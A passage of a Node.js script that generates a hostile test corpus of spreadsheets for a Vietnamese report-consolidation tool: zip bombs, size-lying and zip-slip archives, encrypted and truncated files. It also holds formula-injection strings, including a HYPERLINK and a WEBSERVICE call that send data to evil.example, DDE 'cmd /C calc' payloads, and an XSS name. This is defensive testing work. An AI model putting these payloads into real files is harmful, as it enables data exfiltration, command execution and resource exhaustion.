#!/usr/bin/env node
'use strict';
/**
 * Makes the hostile corpus: unit workbooks as they really arrive by e-mail and USB — cut short, renamed,
 * password-protected, zip bombs, a million rows, formula injection, HTML, legacy Vietnamese encodings, numbers and
 * dates typed every way, totals that disagree, the same unit twice — and `expected.json`, the outcome each file
 * must have (status, and the findings it must produce, with sheet and cell where a cell is at fault).
 *
 * Deterministic: fixed seeds, fixed document dates, no clock; the same bytes every run on the same Node.
 * Files over ~200 KB are "big": not committed, made at test time (`--big`, or `{ big: true }`) into a temp folder.
 *
 * Usage: node scripts/make-hostile-corpus.js [outDir] [--big]     (default test/fixtures/hostile)
 *
 * expected.json: { files: { "<name>": { about, big, status, findings: [{code, sheet?, cell?}], corpus?: [{code}], corpusStatus? } } }
 * - status: what `tonghop check <file>` says of the file alone (valid / warnings / errors / rejected);
 * - findings: findings the file alone must produce (others may come too);
 * - corpus: findings that appear only when the file is consolidated with the rest of the corpus
 *   (the same unit twice, a period unlike the others);
 * - corpusStatus: the file's status in that consolidation, where it differs from `status`.
 */
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
const XLSX = require('@e965/xlsx');
const { crc32 } = require('./support/crc32');
const { toTcvn3, toVni } = require('./support/legacy-encodings');
const {
  FIGURES,
  REGISTER_HEADER,
  STAFF_HEADER,
  TRAINING_HEADER,
  infoRows,
  receptionRows,
  tthcHeader,
  tthcRow,
  tthcTotal,
} = require('./support/unit-workbook');

// ---------------------------------------------------------------------------------------------------------------
// Small tools

/** A small deterministic generator (same as make-examples). */
function lcg(seed) {
  let s = seed >>> 0;
  return () => (s = (Math.imul(s, 1664525) + 1013904223) >>> 0) / 4294967296;
}

function pseudoRandomBytes(n, seed) {
  const rnd = lcg(seed);
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(rnd() * 256);
  return b;
}

/**
 * Raw DEFLATE of `head`, then `count` copies of `unit`, then `tail`, without holding the whole output:
 * `unit` is deflated once with a sync flush (a non-final, byte-aligned piece that only refers back into itself)
 * and repeated. Returns the data with its real uncompressed size and CRC, as a zip entry needs them.
 */
function deflatedRepeat(head, unit, count, tail) {
  const flush = { finishFlush: zlib.constants.Z_SYNC_FLUSH, level: 9 };
  const h = zlib.deflateRawSync(head, flush);
  const u = zlib.deflateRawSync(unit, flush);
  const t = zlib.deflateRawSync(tail, { level: 9 }); // final
  let crc = crc32(head);
  // CRC of `count` repeats: sum unit by unit (fast enough for the sizes used here: ≤ a few thousand units).
  for (let i = 0; i < count; i++) crc = crc32(unit, crc);
  crc = crc32(tail, crc);
  const parts = [h];
  for (let i = 0; i < count; i++) parts.push(u);
  parts.push(t);
  return { data: Buffer.concat(parts), size: head.length + unit.length * count + tail.length, crc };
}

/** Reads a well-formed zip's entries (name → bytes), for rewriting parts of a workbook. */
function unzip(buf) {
  let eocd = buf.length - 22;
  while (eocd >= 0 && buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  if (eocd < 0) throw new Error('not a zip');
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const out = [];
  for (let i = 0; i < count; i++) {
    const method = buf.readUInt16LE(p + 10);
    const csize = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28);
    const extraLen = buf.readUInt16LE(p + 30);
    const commentLen = buf.readUInt16LE(p + 32);
    const offset = buf.readUInt32LE(p + 42);
    const name = buf.toString('utf8', p + 46, p + 46 + nameLen);
    const dataStart = offset + 30 + buf.readUInt16LE(offset + 26) + buf.readUInt16LE(offset + 28);
    const raw = buf.subarray(dataStart, dataStart + csize);
    out.push({ name, data: method === 8 ? zlib.inflateRawSync(raw) : Buffer.from(raw) });
    p += 46 + nameLen + extraLen + commentLen;
  }
  return out;
}

const DOS_DATE = ((2020 - 1980) << 9) | (6 << 5) | 16; // 16/06/2020, fixed
const DOS_TIME = 8 << 11; // 08:00

/**
 * Writes a zip byte by byte, ordinary or hostile. Entry fields:
 * - name, data (Buffer|string) — or deflated: { data, size, crc } (pre-compressed);
 * - store: true for method 0; level: deflate level (default 6);
 * - descriptor: sizes and CRC after the data (flag 3), local header sizes 0 — as Java / Apache POI write;
 * - localSize / centralSize: lie about the uncompressed size in one header;
 * - encrypted: set flag bit 0;
 * - zip64Size: declare this uncompressed size through a Zip64 extra field (0xFFFFFFFF in the header);
 * - aliasOf: index of an earlier entry whose local header and data this central record points at (overlap).
 */
function zipOf(entries) {
  const chunks = [];
  const centrals = [];
  const locals = [];
  let offset = 0;
  entries.forEach((e) => {
    const name = Buffer.from(e.name, 'utf8');
    if (e.aliasOf !== undefined) {
      const l = locals[e.aliasOf];
      centrals.push(central({ ...l, name }));
      return;
    }
    let method, compressed, size, crc;
    if (e.deflated) {
      method = 8;
      compressed = e.deflated.data;
      size = e.deflated.size;
      crc = e.deflated.crc;
    } else {
      const raw = Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data == null ? '' : e.data, 'utf8');
      size = raw.length;
      crc = crc32(raw);
      method = e.store ? 0 : 8;
      compressed = e.store ? raw : zlib.deflateRawSync(raw, { level: e.level === undefined ? 6 : e.level });
    }
    const flags = 0x0800 | (e.encrypted ? 1 : 0) | (e.descriptor ? 8 : 0);
    const declared = e.zip64Size !== undefined ? 0xffffffff : size;
    const extra = e.zip64Size !== undefined ? zip64Extra(e.zip64Size, compressed.length) : Buffer.alloc(0);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(e.zip64Size !== undefined ? 45 : 20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(DOS_TIME, 10);
    local.writeUInt16LE(DOS_DATE, 12);
    if (!e.descriptor) {
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(e.zip64Size !== undefined ? 0xffffffff : compressed.length, 18);
      local.writeUInt32LE(e.localSize !== undefined ? e.localSize : declared, 22);
    }
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(extra.length, 28);
    chunks.push(local, name, extra, compressed);
    let descriptorLength = 0;
    if (e.descriptor) {
      const d = Buffer.alloc(16);
      d.writeUInt32LE(0x08074b50, 0);
      d.writeUInt32LE(crc, 4);
      d.writeUInt32LE(compressed.length, 8);
      d.writeUInt32LE(e.centralSize !== undefined ? e.centralSize : size, 12);
      chunks.push(d);
      descriptorLength = 16;
    }
    const info = {
      name,
      flags,
      method,
      crc,
      csize: compressed.length,
      usize: e.centralSize !== undefined ? e.centralSize : declared,
      zip64Size: e.zip64Size,
      offset,
    };
    locals.push(info);
    centrals.push(central(info));
    offset += 30 + name.length + extra.length + compressed.length + descriptorLength;
  });
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, cd, eocd]);
}

function zip64Extra(usize, csize) {
  const x = Buffer.alloc(20);
  x.writeUInt16LE(0x0001, 0);
  x.writeUInt16LE(16, 2);
  x.writeBigUInt64LE(BigInt(usize), 4);
  x.writeBigUInt64LE(BigInt(csize), 12);
  return x;
}

function central(c) {
  const extra = c.zip64Size !== undefined ? zip64Extra(c.zip64Size, c.csize) : Buffer.alloc(0);
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(c.zip64Size !== undefined ? 45 : 20, 4);
  h.writeUInt16LE(c.zip64Size !== undefined ? 45 : 20, 6);
  h.writeUInt16LE(c.flags, 8);
  h.writeUInt16LE(c.method, 10);
  h.writeUInt16LE(DOS_TIME, 12);
  h.writeUInt16LE(DOS_DATE, 14);
  h.writeUInt32LE(c.crc, 16);
  h.writeUInt32LE(c.zip64Size !== undefined ? 0xffffffff : c.csize, 20);
  h.writeUInt32LE(c.usize >>> 0, 24);
  h.writeUInt16LE(c.name.length, 28);
  h.writeUInt16LE(extra.length, 30);
  h.writeUInt32LE(c.offset, 42);
  return Buffer.concat([h, c.name, extra]);
}

/** Rewrites some parts of a workbook (name → new text, or a function of the old text); other parts unchanged. */
function rewrite(bytes, changes, opts = {}) {
  const entries = unzip(bytes).map((e) => {
    const c = changes[e.name];
    if (c === undefined) return { name: e.name, data: e.data };
    const data = typeof c === 'function' ? c(e.data.toString('utf8')) : c;
    return { name: e.name, data: Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8') };
  });
  for (const [name, data] of Object.entries(opts.add || {}))
    entries.push({ name, data: Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8') });
  return zipOf(entries.map((e) => ({ ...e, ...(opts.each ? opts.each(e) : {}) })));
}

// ---------------------------------------------------------------------------------------------------------------
// The unit workbook (canonical sheets of docs/formats.md), with every part open to variation

const PERIOD = { label: '6 tháng đầu năm 2020', from: '15/12/2019', to: '14/06/2020' };
const NHANSU_HEADER = STAFF_HEADER;
const DAOTAO_HEADER = TRAINING_HEADER;
const { rows: TTHC_HEADER, merges: TTHC_MERGES } = tthcHeader(0);
const FIELDS = ['Hoạt động khoa học và công nghệ', 'Sở hữu trí tuệ', 'Tiêu chuẩn đo lường chất lượng'];
const DEGREES = ['Tiến sĩ', 'Thạc sĩ', 'Đại học', 'Đại học', 'Cao đẳng'];
const PEOPLE = ['Nguyễn Văn An', 'Trần Thị Bình', 'Lê Hữu Cường', 'Phạm Thị Dung', 'Hoàng Minh Hải', 'Võ Thị Lan'];

/**
 * The sheets of a filled-in unit workbook, as [name, aoa, merges]. `seed` varies the figures so two cases never
 * hold the same content (which the consolidation would flag); `name` is the unit's name.
 */
function unitSheets(name, seed, over = {}) {
  const k = seed % 7;
  const tthc = over.tthcRows || [
    tthcRow(1, FIELDS[0], { online: 2 + k, inPerson: 3, carriedOver: 1, early: 4 + k, onTime: 1, pendingWithin: 1 }),
    tthcRow(2, FIELDS[1], { online: 1, inPerson: 2 + (seed % 3), early: 2 + (seed % 3), onTime: 1 }),
  ];
  const staff =
    over.staffRows ||
    PEOPLE.slice(0, 4 + (seed % 3)).map((p, i) => [
      i + 1,
      p,
      i % 2 ? 'Nữ' : 'Nam',
      1970 + ((seed + i * 7) % 30),
      'Kinh',
      i % 2 ? 'x' : '',
      i % 3 === 2 ? 'Viên chức' : 'Công chức',
      '',
      'Chuyên viên',
      DEGREES[(seed + i) % DEGREES.length],
      i % 2 ? 'Trung cấp' : 'Cao cấp',
      'Chuyên viên',
      '',
    ]);
  const info =
    over.info ||
    infoRows({ title: true, unit: name, ...PERIOD, quota: staff.length + 2, by: 'Nguyễn Thị Lan', made: '16/06/2020' });
  return [
    ['ThongTin', info, []],
    ['TTHC', [...TTHC_HEADER, ...tthc, over.total || tthcTotal(tthc)], TTHC_MERGES],
    ['NhanSu', [NHANSU_HEADER, ...staff], []],
    [
      'DaoTao',
      [
        DAOTAO_HEADER,
        ...(over.training || [
          [
            1,
            PEOPLE[0],
            'Công chức',
            'Bồi dưỡng',
            'QLNN ngạch chuyên viên chính',
            'Trường Chính trị tỉnh',
            '06/04/2020',
            '29/05/2020',
            'Hoàn thành',
          ],
        ]),
      ],
      [],
    ],
    ['TiepDan', over.reception || receptionRows({ citizens: [seed % 5, seed % 5], petitions: [1, 1] }), []],
  ];
}

function bookOf(sheets, opts = {}) {
  const wb = XLSX.utils.book_new();
  for (const [name, aoa, merges, tweak] of sheets) {
    const ws = XLSX.utils.aoa_to_sheet(aoa);
    if (merges && merges.length) ws['!merges'] = merges;
    if (tweak) tweak(ws);
    XLSX.utils.book_append_sheet(wb, ws, name);
  }
  if (opts.hidden) wb.Workbook = { Sheets: sheets.map(([n]) => ({ Hidden: opts.hidden.includes(n) ? 1 : 0 })) };
  wb.Props = { Title: 'Báo cáo đơn vị', Author: 'TongHop', CreatedDate: new Date(Date.UTC(2020, 5, 16)) };
  return wb;
}

/** @param {import('@e965/xlsx').WorkBook} wb @param {import('@e965/xlsx').BookType} [bookType] */
function write(wb, bookType = 'xlsx') {
  // Shared strings, as Excel writes them (SheetJS writes inline strings otherwise).
  return XLSX.write(wb, { type: 'buffer', bookType, compression: true, bookSST: bookType === 'xlsx' });
}

/**
 * A valid unit workbook's bytes.
 * @param {string} name @param {number} seed @param {any} [over] @param {import('@e965/xlsx').BookType} [bookType]
 */
function unitWorkbook(name, seed, over = {}, bookType = 'xlsx') {
  return write(bookOf(unitSheets(name, seed, over)), bookType);
}

/** Cell (A1) of a value in an aoa: for expectations that name the cell. */
function cellOf(r, c) {
  return XLSX.utils.encode_cell({ r, c });
}

// ---------------------------------------------------------------------------------------------------------------
// Cases

/** Formula-injection strings (CSV/DDE injection as it reaches spreadsheets): must stay text in the summary. */
const INJECTION = {
  unit: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  field1: "+cmd|' /C calc'!A0",
  field2: "-2+3+cmd|' /C notepad'!A0",
  field3: "@SUM(1+1)*cmd|' /C calc'!A0",
  person: '=1+1',
  program: '=WEBSERVICE("http://evil.example/x")',
};
const HTML_NAME = '<img src=x onerror=alert(1)></script><script>alert(2)</script>';

const WORKBOOK_NS =
  'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';

/** The parts of a one-sheet .xlsx with the given sheet XML (for XML-level cases). */
function minimalXlsxEntries(sheetXml, extra = {}) {
  return [
    {
      name: '[Content_Types].xml',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
        (extra.sst
          ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
          : '') +
        '</Types>',
    },
    {
      name: '_rels/.rels',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    },
    {
      name: 'xl/workbook.xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook ${WORKBOOK_NS}><sheets><sheet name="${extra.sheetName || 'NhanSu'}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
        (extra.sst
          ? '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
          : '') +
        '</Relationships>',
    },
    { name: 'xl/worksheets/sheet1.xml', ...sheetXml },
    ...(extra.sst ? [{ name: 'xl/sharedStrings.xml', ...extra.sst }] : []),
  ];
}

const SHEET_HEAD = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet ${WORKBOOK_NS}>`;

/** A sheet of `rows` staff rows (3 columns), made without holding the XML: rows are generated in blocks. */
function millionRows(rows, dimension) {
  const head = Buffer.from(
    `${SHEET_HEAD}${dimension ? `<dimension ref="${dimension}"/>` : ''}<sheetData>` +
      '<row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c><c r="B1" t="inlineStr"><is><t>Họ và tên</t></is></c><c r="C1" t="inlineStr"><is><t>Giới tính</t></is></c></row>',
  );
  const parts = [];
  for (let r = 2; r <= rows + 1; r++)
    parts.push(
      `<row r="${r}"><c r="A${r}"><v>${r - 1}</v></c><c r="B${r}" t="inlineStr"><is><t>Nguyễn Văn A</t></is></c><c r="C${r}"><v>1</v></c></row>`,
    );
  const body = Buffer.from(parts.join(''));
  const tail = Buffer.from('</sheetData></worksheet>');
  const all = Buffer.concat([head, body, tail]);
  return { deflated: { data: zlib.deflateRawSync(all, { level: 1 }), size: all.length, crc: crc32(all) } };
}

/** OLE compound file holding an encrypted OOXML package ([MS-OFFCRYPTO] agile), as Office writes it. */
function encryptedPackage() {
  const info = Buffer.concat([
    Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]),
    Buffer.from(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">' +
        '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>' +
        '</encryption>',
    ),
  ]);
  const cfb = XLSX.CFB.utils.cfb_new();
  XLSX.CFB.utils.cfb_add(cfb, '/EncryptionInfo', info);
  XLSX.CFB.utils.cfb_add(cfb, '/EncryptedPackage', pseudoRandomBytes(8192, 7));
  return Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }));
}

/** A plain single-sheet ODS with one row whose cell is repeated `repeat` times. */
function odsRepeated(repeat) {
  const content =
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet>' +
    '<table:table table:name="NhanSu"><table:table-row table:number-rows-repeated="10000"><table:table-cell table:number-columns-repeated="' +
    repeat +
    '" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>' +
    '</office:spreadsheet></office:body></office:document-content>';
  return zipOf([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', store: true },
    {
      name: 'META-INF/manifest.xml',
      data: '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    },
    { name: 'content.xml', data: content },
  ]);
}

const E = (code, sheet, cell) => ({
  code,
  ...(sheet !== undefined ? { sheet } : {}),
  ...(cell !== undefined ? { cell } : {}),
});

/**
 * Every case: file name, what it is (Vietnamese), whether it is big (made at test time only), how it is made,
 * and what must come of it. Seeds (the second argument of unitWorkbook) are distinct, so no two cases hold the
 * same figures unless they mean to.
 */
const CASES = [
  // --- Ordinary, for reference
  {
    file: 'hop-le.xlsx',
    about: 'sổ tính hợp lệ theo mẫu',
    make: () => unitWorkbook('Văn phòng Sở', 1),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'nhi-phan.xlsb',
    about: 'sổ tính nhị phân .xlsb hợp lệ',
    make: () => unitWorkbook('Chi cục Tiêu chuẩn Đo lường Chất lượng', 2, {}, 'xlsb'),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'du-lieu-mo-ta.xlsx',
    about: 'kích thước ghi sau dữ liệu (data descriptor) như Apache POI / Java ghi — hợp lệ',
    make: () =>
      zipOf(unzip(unitWorkbook('Trung tâm Thông tin và Thống kê', 3)).map((e) => ({ ...e, descriptor: true }))),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'macro.xlsm',
    about: 'sổ tính có macro (vbaProject.bin); macro không bao giờ chạy',
    make: () =>
      rewrite(
        unitWorkbook('Trung tâm Ứng dụng tiến bộ khoa học và công nghệ', 4),
        {},
        { add: { 'xl/vbaProject.bin': pseudoRandomBytes(2048, 4) } },
      ),
    expect: { status: 'valid', findings: [] },
  },

  // --- Not a workbook at all
  {
    file: 'rong.xlsx',
    about: 'tệp rỗng (0 byte)',
    make: () => Buffer.alloc(0),
    expect: { status: 'rejected', findings: [E('READ_EMPTY_FILE', '', '')] },
  },
  {
    file: 'cat-ngang.xlsx',
    about: '.xlsx bị cắt ngang (tải về chưa xong)',
    make: () => {
      const b = unitWorkbook('Cắt ngang', 5);
      return b.subarray(0, Math.floor(b.length * 0.6));
    },
    expect: { status: 'rejected', findings: [E('READ_DAMAGED', '', '')] },
  },
  {
    file: 'word-doi-ten.xlsx',
    about: 'tài liệu Word .docx đổi đuôi thành .xlsx',
    make: () =>
      zipOf([
        {
          name: '[Content_Types].xml',
          data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        },
        {
          name: 'word/document.xml',
          data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p></w:body></w:document>',
        },
      ]),
    expect: { status: 'rejected', findings: [E('READ_NOT_WORKBOOK', '', '')] },
  },
  {
    file: 'pdf-doi-ten.xlsx',
    about: 'tệp PDF đổi đuôi thành .xlsx',
    make: () =>
      Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    expect: { status: 'rejected', findings: [E('READ_NOT_WORKBOOK', '', '')] },
  },
  {
    file: 'anh-doi-ten.xlsx',
    about: 'ảnh PNG đổi đuôi thành .xlsx',
    make: () =>
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pseudoRandomBytes(500, 9)]),
    expect: { status: 'rejected', findings: [E('READ_NOT_WORKBOOK', '', '')] },
  },
  {
    file: 'csv-doi-ten.xlsx',
    about: 'tệp CSV đổi đuôi thành .xlsx',
    make: () => Buffer.from('Tên đơn vị,Số hồ sơ\n=1+1,12\n'),
    expect: { status: 'rejected', findings: [E('READ_NOT_WORKBOOK', '', '')] },
  },
  {
    file: 'zip-khac.xlsx',
    about: 'tệp nén .zip chứa tệp khác',
    make: () =>
      zipOf([
        { name: 'ghi-chu.txt', data: 'xin chào' },
        { name: '../../thoat-ra.txt', data: 'zip slip' },
      ]),
    expect: { status: 'rejected', findings: [E('READ_NOT_WORKBOOK', '', '')] },
  },
  {
    file: 'ngau-nhien.xlsx',
    about: 'byte ngẫu nhiên sau chữ ký zip',
    make: () => Buffer.concat([Buffer.from('PK\x03\x04'), pseudoRandomBytes(4000, 11)]),
    expect: { status: 'rejected', findings: [E('READ_DAMAGED', '', '')] },
  },
  {
    file: 'xls-cat-ngang.xls',
    about: '.xls (BIFF8) bị cắt ngang',
    make: () => unitWorkbook('Xls cắt', 12, {}, 'biff8').subarray(0, 1500),
    expect: { status: 'rejected', findings: [E('READ_DAMAGED', '', '')] },
  },
  {
    file: 'khong-co-trang.xlsx',
    about: 'workbook.xml không có trang tính nào',
    make: () =>
      rewrite(unitWorkbook('Không trang', 13), {
        'xl/workbook.xml': (x) => x.replace(/<sheets>[\s\S]*<\/sheets>/, '<sheets></sheets>'),
      }),
    expect: { status: 'rejected', findings: [E('READ_NO_SHEETS', '', '')] },
  },

  // --- Password-protected
  {
    file: 'mat-khau.xlsx',
    about: 'sổ tính đặt mật khẩu (OLE/CFB chứa EncryptionInfo + EncryptedPackage)',
    make: encryptedPackage,
    expect: { status: 'rejected', findings: [E('READ_ENCRYPTED', '', '')] },
  },
  {
    file: 'zip-mat-khau.xlsx',
    about: 'các phần của zip mang cờ mã hoá',
    make: () => zipOf(unzip(unitWorkbook('Zip mật khẩu', 14)).map((e) => ({ ...e, encrypted: true }))),
    expect: { status: 'rejected', findings: [E('READ_ENCRYPTED', '', '')] },
  },

  // --- Zip bombs and lying archives
  {
    file: 'bom-chong-lop.xlsx',
    about: 'bom zip chồng lớp: 40 mục cùng trỏ vào một khối nén 100 KB giải nén thành 100 MiB (4 GiB tổng)',
    make: () => {
      const base = unzip(unitWorkbook('Bom chồng lớp', 15)).filter((e) => e.name !== 'xl/worksheets/sheet1.xml');
      const kernel = deflatedRepeat(
        Buffer.from(SHEET_HEAD + '<sheetData>'),
        Buffer.alloc(1 << 20, 0x20),
        100,
        Buffer.from('</sheetData></worksheet>'),
      );
      /** @type {any[]} */
      const entries = [...base, { name: 'xl/worksheets/sheet1.xml', deflated: kernel }];
      const at = entries.length - 1;
      for (let i = 0; i < 39; i++) entries.push({ name: `xl/media/image${i + 1}.png`, aliasOf: at });
      return zipOf(entries);
    },
    expect: { status: 'rejected', findings: [E('READ_TOO_LARGE', '', '')] },
  },
  {
    file: 'bom-ti-le.xlsx',
    about: 'bom zip: một phần khai báo thật 50 MiB nén còn khoảng 50 KB (gấp ~1.000 lần)',
    make: () =>
      rewrite(
        unitWorkbook('Bom tỉ lệ', 16),
        {},
        {
          each: (e) =>
            e.name === 'xl/worksheets/sheet2.xml'
              ? {
                  deflated: deflatedRepeat(
                    Buffer.from(SHEET_HEAD + '<sheetData>'),
                    Buffer.alloc(1 << 20, 0x20),
                    50,
                    Buffer.from('</sheetData></worksheet>'),
                  ),
                }
              : {},
        },
      ),
    expect: { status: 'rejected', findings: [E('READ_ZIP_BOMB', '', '')] },
  },
  {
    file: 'bom-giau-kich-thuoc.xlsx',
    about:
      'bom zip giấu kích thước: tiêu đề cục bộ ghi 0 (data descriptor), thư mục trung tâm khai 2 KB, thực tế giải nén 100 MiB',
    make: () =>
      rewrite(
        unitWorkbook('Bom giấu kích thước', 17),
        {},
        {
          each: (e) =>
            e.name === 'xl/worksheets/sheet2.xml'
              ? {
                  deflated: deflatedRepeat(
                    Buffer.from(SHEET_HEAD + '<sheetData>'),
                    Buffer.alloc(1 << 20, 0x20),
                    100,
                    Buffer.from('</sheetData></worksheet>'),
                  ),
                  descriptor: true,
                  centralSize: 2048,
                }
              : {},
        },
      ),
    expect: { status: 'rejected', findings: [E('READ_ZIP_BOMB', '', '')] },
  },
  {
    file: 'bom-khai-thieu.xlsx',
    about: 'cả hai tiêu đề khai 2 KB cho một phần thực tế giải nén 100 MiB (SheetJS chỉ giữ 2 KB)',
    make: () =>
      rewrite(
        unitWorkbook('Bom khai thiếu', 18),
        {},
        {
          each: (e) =>
            e.name === 'xl/worksheets/sheet2.xml'
              ? {
                  deflated: deflatedRepeat(
                    Buffer.from(SHEET_HEAD + '<sheetData>'),
                    Buffer.alloc(1 << 20, 0x20),
                    100,
                    Buffer.from('</sheetData></worksheet>'),
                  ),
                  localSize: 2048,
                  centralSize: 2048,
                }
              : {},
        },
      ),
    // SheetJS would keep the declared 2 KB and decode the rest for nothing; the preflight's own unpacking sees the
    // part run past its declared size and refuses the file before SheetJS reads it.
    expect: { status: 'rejected', findings: [E('READ_ZIP_BOMB', '', '')] },
  },
  {
    file: 'bom-cham.xlsx',
    big: true,
    about:
      'khai 2 KB cho một phần giải nén 1 GiB: SheetJS sẽ mất vài giây giải nén vô ích; bị loại trước khi SheetJS đọc',
    make: () =>
      rewrite(
        unitWorkbook('Bom chậm', 49),
        {},
        {
          each: (e) =>
            e.name === 'xl/worksheets/sheet2.xml'
              ? {
                  deflated: deflatedRepeat(
                    Buffer.from(SHEET_HEAD + '<sheetData>'),
                    Buffer.alloc(1 << 20, 0x20),
                    1024,
                    Buffer.from('</sheetData></worksheet>'),
                  ),
                  localSize: 2048,
                  centralSize: 2048,
                }
              : {},
        },
      ),
    expect: { status: 'rejected', findings: [E('READ_ZIP_BOMB', '', '')] },
  },
  {
    file: 'cham.xlsx',
    big: true,
    about: 'tệp hợp lệ nhưng đọc lâu (80.000 dòng nhân sự, khoảng 3 giây): dùng để thử giới hạn thời gian đọc mỗi tệp',
    make: () =>
      unitWorkbook('Phòng Đông người', 50, {
        staffRows: Array.from({ length: 80_000 }, (_, i) => [
          i + 1,
          `Nguyễn Văn ${i % 997}`,
          i % 2 ? 'Nữ' : 'Nam',
          1970 + (i % 30),
          '',
          '',
          i % 3 === 2 ? 'Viên chức' : 'Công chức',
          '',
          'Chuyên viên',
          DEGREES[i % DEGREES.length],
        ]),
      }),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'zip64-noi-doi.xlsx',
    about: 'Zip64 khai một phần 1 TiB',
    make: () =>
      rewrite(
        unitWorkbook('Zip64', 19),
        {},
        { each: (e) => (e.name === 'xl/styles.xml' ? { zip64Size: 2 ** 40 } : {}) },
      ),
    expect: { status: 'rejected', findings: [E('READ_TOO_LARGE', '', '')] },
  },
  {
    file: 'nhieu-phan.xlsx',
    big: true,
    about: 'zip có 10.001 phần',
    make: () => {
      /** @type {any[]} */
      const entries = unzip(unitWorkbook('Nhiều phần', 20));
      for (let i = 0; i < 10_001; i++) entries.push({ name: `xl/media/x${i}.bin`, data: 'x', store: true });
      return zipOf(entries);
    },
    expect: { status: 'rejected', findings: [E('READ_ZIP_BOMB', '', '')] },
  },

  // --- Too big to read
  {
    file: 'trieu-dong.xlsx',
    big: true,
    about: 'trang NhanSu 1.000.000 dòng × 3 cột, khai báo đúng vùng dữ liệu',
    make: () => zipOf(minimalXlsxEntries(millionRows(1_000_000, 'A1:C1000001'))),
    expect: { status: 'rejected', findings: [E('READ_TOO_MANY_CELLS', 'NhanSu', '')] },
  },
  {
    file: 'trieu-dong-khai-sai.xlsx',
    big: true,
    about: 'trang NhanSu 1.000.000 dòng × 3 cột nhưng khai báo vùng dữ liệu A1:C2',
    make: () => zipOf(minimalXlsxEntries(millionRows(1_000_000, 'A1:C2'))),
